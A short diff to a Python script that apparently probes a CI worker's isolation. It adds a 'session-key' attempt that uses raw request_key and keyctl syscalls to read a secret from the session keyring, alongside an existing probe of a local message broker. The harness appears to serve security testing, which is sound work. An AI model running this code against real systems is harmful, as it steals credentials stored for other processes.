@@ -138,6 +138,15 @@ def own() -> None:
     )
 
 
+def session_key() -> int:
+    """A key of the session that the worker was started in."""
+    request, control = {"x86_64": (249, 250)}.get(os.uname().machine, (218, 219))
+    key = call("syscall", request, b"user", b"pikoci-attack", None, 0)
+    buffer = ctypes.create_string_buffer(100)
+    call("syscall", control, 11, key, buffer, ctypes.c_long(100))
+    return bring(buffer.value)
+
+
 def queue() -> str:
     """The broker, whose address is no secret, without its password."""
     with socket.create_connection(("127.0.0.1", TARGETS["queue"]), timeout=4) as broker:
@@ -151,6 +160,7 @@ def queue() -> str:
 
 
 attempt("queue", queue)
+attempt("session-key", session_key)
 own()
 files()
 victim()
